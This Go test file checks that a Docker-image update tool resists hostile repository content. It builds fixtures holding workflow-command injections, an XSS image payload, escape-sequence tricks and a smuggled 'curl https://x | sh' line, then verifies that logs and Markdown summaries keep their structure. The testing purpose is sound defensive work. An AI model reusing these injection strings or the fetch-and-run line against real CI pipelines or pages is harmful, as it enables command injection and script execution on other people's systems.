package cli

import (
	"maps"
	"net/http/httptest"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	east "github.com/yuin/goldmark/extension/ast"
	"github.com/yuin/goldmark/text"

	"github.com/dfiu/dfiu/internal/demo"
	"github.com/dfiu/dfiu/internal/ghsim"
	"github.com/dfiu/dfiu/internal/ghsim/ghsimtest"
)

// hostileDir is a directory name an attacker who can push to one
// repository might choose: workflow commands after a CR and after a LF,
// the legacy ##[ form, a code fence and </details> that would close the
// summary's diff block, HTML, a table cell separator, an ANSI escape and a
// right-to-left override.
const hostileDir = "h\r::warning title=INJECTED::cr\n::error title=INJECTED::pwned\n```\n</details>\n<img src=x onerror=alert(1)> | **b** ##[error]INJECTED \x1b[2K\u202e"

// hostileLines end every Dockerfile: a RUN whose continuation lines would
// be workflow commands and fence breakers in a diff's context.
const hostileLines = "RUN echo \\\n  ::error title=INJECTED::content \\\n  ##[error]INJECTED \\\n  ````\n"

// hostileStore adds store entries an attacker could write: a key and a
// tag that hold commands, HTML and Markdown, and a number.
var hostileStore = map[string]string{
	"\"evil\\n::error title=INJECTED::key <img src=x>\"": `"1.0"`,
	"\"ubuntu\"": `"24.04\n::error title=INJECTED::tag\nRUN curl https://x | sh <img src=x>"`,
	"\"num\"":    `5`,
}

// hostileSeed is the demo organisation with every file moved into
// hostileDir, hostile lines at the end of every Dockerfile, a hostile
// title on the pull request a person opened, and hostile store entries.
func hostileSeed(token, digest string) ghsim.Seed {
	s := demo.Seed(token, digest)
	move := func(files map[string]string) map[string]string {
		out := map[string]string{}
		for p, c := range files {
			if strings.HasPrefix(path.Base(p), "Dockerfile") || strings.HasPrefix(path.Base(p), "Containerfile") {
				nl := "\n"
				if strings.Contains(c, "\r\n") {
					nl = "\r\n"
				}
				c += strings.ReplaceAll(hostileLines, "\n", nl)
			}
			out[hostileDir+"/"+p] = c
		}
		return out
	}
	for i, r := range s.Repos {
		if r.Name == demo.Store {
			var entries []string
			for _, k := range slices.Sorted(maps.Keys(hostileStore)) {
				entries = append(entries, "    "+k+": "+strings.ReplaceAll(hostileStore[k], "\n", `\n`))
			}
			s.Repos[i].Files = map[string]string{"store.json": strings.Replace(r.Files["store.json"], "\"images\": {\n", "\"images\": {\n"+strings.Join(entries, ",\n")+",\n", 1)}
			continue
		}
		s.Repos[i].Files = move(r.Files)
		for j, b := range r.Branches {
			s.Repos[i].Branches[j].Files = move(b.Files)
		}
		for j := range r.Pulls {
			s.Repos[i].Pulls[j].Title = "\n::error title=INJECTED::title <img src=x>"
		}
	}
	return s
}

func newHostileHarness(t *testing.T) *harness {
	t.Helper()
	srv := ghsim.New(ghsim.Options{Middleware: ghsimtest.ValidateIfPresent(t)})
	ts := httptest.NewServer(srv)
	t.Cleanup(ts.Close)
	reg, digest, err := demo.StartRegistry()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(reg.Close)
	if err := demo.PopulateSeed(srv, hostileSeed(testToken, digest), testToken); err != nil {
		t.Fatal(err)
	}
	return &harness{t: t, srv: srv, url: ts.URL, reg: reg, digest: digest}
}

// e2eScenarios are the end-to-end runs TestHostileNames repeats with
// hostile names: each mode as an action, in a dry run and for real, and
// on the command line.
var e2eScenarios = []struct {
	name   string
	inputs map[string]string
	flags  []string // run as `dfiu <flags>` instead of as the action
}{
	{name: "parent", inputs: parentInputs()},
	{name: "parent dry run", inputs: with(parentInputs(), "dry-run", "true")},
	{name: "child", inputs: map[string]string{"mode": "child", "repository": "acme/services", "image": demo.Image, "tag": "1.0"}},
	{name: "child dry run", inputs: map[string]string{"mode": "child", "repository": "acme/services", "image": demo.Image, "tag": "1.0", "dry-run": "true"}},
	{name: "all", inputs: map[string]string{"mode": "all", "store": demo.Store, "exclude-repos": demo.Exclude}},
	{name: "all dry run", inputs: map[string]string{"mode": "all", "store": demo.Store, "exclude-repos": demo.Exclude, "dry-run": "true"}},
	{name: "parent on the command line", flags: []string{"parent", "--image", demo.Image, "--tag", demo.NewTag, "--orgs", demo.Org, "--exclude-repos", demo.Exclude, "--dry-run"}},
}

func with(m map[string]string, k, v string) map[string]string {
	m[k] = v
	return m
}

// TestHostileNames runs every end-to-end scenario on the demo organisation
// and on its hostile twin. With hostile names each repository must come
// out as it does with plain ones, no line of the log may start a workflow
// command dfiu did not issue, and the summary's Markdown must keep its
// structure: no HTML, image, link, emphasis or heading that dfiu did not
// write, every table row with its cells in place, one diff block.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	for _, sc := range e2eScenarios {
		t.Run(sc.name, func(t *testing.T) {
			t.Parallel()
			plain, hostile := newHarness(t), newHostileHarness(t)
			exec := func(h *harness) run {
				if sc.flags != nil {
					env := map[string]string{"GITHUB_TOKEN": testToken}
					args := append(slices.Clone(sc.flags), "--github-api-url", h.url, "--github-graphql-url", h.url+"/graphql")
					return h.exec(args, env, false, fast())
				}
				return h.exec(nil, h.actionEnv(maps.Clone(sc.inputs)), true, fast())
			}
			want, got := exec(plain), exec(hostile)
			if got.code != want.code {
				t.Errorf("exit %d, with plain names %d\nstdout:\n%s", got.code, want.code, got.stdout)
			}
			if sc.flags == nil {
				if w, g := actions(t, want), actions(t, got); !maps.Equal(w, g) {
					t.Errorf("with hostile names the results differ:\n got %v\nwant %v", g, w)
				}
			}
			checkNoInjectedCommand(t, "stdout", got.stdout)
			checkNoInjectedCommand(t, "stderr", got.stderr)
			if sc.flags == nil {
				checkSummaryStructure(t, got.summary, sc.inputs["dry-run"] == "true")
			}
			if !strings.Contains(got.stdout+got.summary, "INJECTED") {
				t.Error("the hostile names appear nowhere: the scenario does not exercise them")
			}
		})
	}
}

// actions returns each repository and image's action.
func actions(t *testing.T, r run) map[string]string {
	t.Helper()
	out := map[string]string{}
	for k, p := range pullRequests(t, r) {
		out[k] = p.Action
	}
	return out
}

// ourCommands are the workflow commands dfiu issues.
var ourCommands = map[string]bool{"group": true, "endgroup": true, "add-mask": true, "warning": true, "error": true, "notice": true, "debug": true}

// checkNoInjectedCommand reads s as the runner does (a line ends at LF, CR
// or CRLF; leading white space is trimmed) and fails on any workflow
// command dfiu did not issue: an unknown command, a hostile value in a
// command's name or properties (where go-githubactions would have escaped
// a line break, and which dfiu starts with "dfiu"), a mask of anything but the token, or the legacy ##[ form.
func checkNoInjectedCommand(t *testing.T, where, s string) {
	t.Helper()
	for _, line := range strings.FieldsFunc(s, func(r rune) bool { return r == '\n' || r == '\r' }) {
		line = strings.TrimSpace(line)
		if strings.ContainsAny(line, "\x1b\u202e") {
			t.Errorf("%s: a line holds a raw escape or override: %q", where, line)
		}
		if strings.HasPrefix(line, "##[") {
			t.Errorf("%s: legacy command %q", where, line)
			continue
		}
		if !strings.HasPrefix(line, "::") {
			continue
		}
		head, msg, ok := strings.Cut(line[2:], "::")
		name, props, _ := strings.Cut(head, " ")
		injected := false
		for _, p := range strings.Split(props, ",") {
			_, v, _ := strings.Cut(p, "=")
			injected = injected || strings.HasPrefix(v, "INJECTED")
		}
		switch {
		case !ok || !ourCommands[name]:
			t.Errorf("%s: command %q is not one dfiu issues", where, line)
		case injected:
			t.Errorf("%s: injected command %q", where, line)
		case name == "add-mask" && msg != testToken:
			t.Errorf("%s: injected mask %q", where, line)
		}
	}
}

// checkSummaryStructure parses the job summary as GitHub does (CommonMark
// with GFM tables) and fails on any structure dfiu does not write.
func checkSummaryStructure(t *testing.T, summary string, dryRun bool) {
	t.Helper()
	src := []byte(summary)
	doc := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(text.NewReader(src))
	statuses := map[string]bool{"created": true, "updated": true, "unchanged": true, "skipped": true, "failed": true, "would create": true, "would update": true}
	fences, h2 := 0, 0
	bad := func(n ast.Node, why string) {
		t.Errorf("summary: %s: %q\n%s", why, plainText(n, src), summary)
	}
	ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Heading:
			if n.Level == 2 {
				h2++
				if !strings.HasPrefix(plainText(n, src), "dfiu ") || h2 > 1 {
					bad(n, "unexpected level-2 heading")
				}
				return ast.WalkSkipChildren, nil
			}
			var kinds []string
			for c := n.FirstChild(); c != nil; c = c.NextSibling() {
				if c.Kind() == ast.KindCodeSpan {
					kinds = append(kinds, "code")
				}
			}
			if n.Level != 3 || len(kinds) < 2 {
				bad(n, "heading is not an image's: `image` → `tag`, one tag per lineage")
			}
			return ast.WalkSkipChildren, nil
		case *ast.HTMLBlock:
			var b strings.Builder
			for i := 0; i < n.Lines().Len(); i++ {
				seg := n.Lines().At(i)
				b.Write(seg.Value(src))
			}
			if h := strings.TrimSpace(b.String()); h != "<details><summary>Diffs</summary>" && h != "</details>" {
				bad(n, "HTML block dfiu did not write: "+h)
			}
		case *ast.RawHTML:
			var b strings.Builder
			for i := 0; i < n.Segments.Len(); i++ {
				seg := n.Segments.At(i)
				b.Write(seg.Value(src))
			}
			if b.String() != "<br>" {
				bad(n, "inline HTML dfiu did not write: "+b.String())
			}
		case *ast.Image, *ast.AutoLink, *east.Strikethrough, *east.TaskCheckBox:
			bad(n, "markup dfiu does not write: "+n.Kind().String())
		case *ast.Emphasis:
			if s := plainText(n, src); n.Level != 2 || (s != "Totals:" && s != "Adoption:" && s != "All images:") {
				bad(n, "emphasis dfiu did not write")
			}
		case *ast.FencedCodeBlock:
			fences++
			if string(n.Language(src)) != "diff" {
				bad(n, "a code block that is not the diff")
			}
		case *east.TableRow:
			var cells []ast.Node
			for c := n.FirstChild(); c != nil; c = c.NextSibling() {
				cells = append(cells, c)
			}
			if len(cells) != 6 || !statuses[plainText(cells[4], src)] {
				bad(n, "a table row whose cells moved")
				return ast.WalkSkipChildren, nil
			}
			for c := cells[1].FirstChild(); c != nil; c = c.NextSibling() {
				if c.Kind() != ast.KindCodeSpan && c.Kind() != ast.KindRawHTML {
					bad(cells[1], "a Files cell holds more than code spans")
				}
			}
			for c := cells[3].FirstChild(); c != nil; c = c.NextSibling() {
				if c.Kind() != ast.KindLink {
					bad(cells[3], "a Pull request cell holds more than a link")
				}
			}
		case *ast.Link:
			if n.Parent().Kind() != east.KindTableCell {
				bad(n, "a link outside the Pull request column")
			}
		case *ast.List:
			for c := n.FirstChild(); c != nil; c = c.NextSibling() {
				if p := c.FirstChild(); p == nil || p.NextSibling() != nil || p.Kind() != ast.KindParagraph && p.Kind() != ast.KindTextBlock {
					bad(c, "a list item that is not one line of text")
				}
			}
		}
		return ast.WalkContinue, nil
	})
	if want := 0; dryRun {
		want = 1
		if fences != want {
			t.Errorf("summary has %d code blocks, want %d", fences, want)
		}
	} else if fences != want {
		t.Errorf("summary has %d code blocks, want %d", fences, want)
	}
	if last := doc.LastChild(); dryRun && (last == nil || last.Kind() != ast.KindHTMLBlock) {
		t.Errorf("summary does not end with the diff block's </details>:\n%s", summary)
	}
}

// plainText returns the text of n's inline content.
func plainText(n ast.Node, src []byte) string {
	var b strings.Builder
	_ = ast.Walk(n, func(c ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch c := c.(type) {
		case *ast.Text:
			b.Write(c.Segment.Value(src))
		case *ast.String:
			b.Write(c.Value)
		}
		return ast.WalkContinue, nil
	})
	return b.String()
}

// TestRewriteHostileNames: `dfiu rewrite` prints the names and lines of the
// files it reads, which come from a repository when it runs in a
// workflow: none may start a workflow command, in any mode.
func TestRewriteHostileNames(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	name := strings.ReplaceAll(hostileDir, "\r", "") // a CR in a directory name is refused by some file systems
	writeFiles(t, dir, map[string]string{
		name + "/Dockerfile":     "FROM ubuntu:20.04\n" + hostileLines,
		name + "/Dockerfile.pin": "FROM ubuntu:20.04@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n",
	})
	for _, mode := range [][]string{{"--check"}, {"--diff"}, nil} {
		args := append(append([]string{"--image", "ubuntu", "--tag", "24.04"}, mode...), dir)
		_, stdout, stderr := runCmd(t, args)
		checkNoInjectedCommand(t, "stdout", stdout)
		checkNoInjectedCommand(t, "stderr", stderr)
		if !strings.Contains(stdout+stderr, "INJECTED") {
			t.Errorf("%v: the hostile names appear nowhere:\n%s\n%s", mode, stdout, stderr)
		}
	}
}
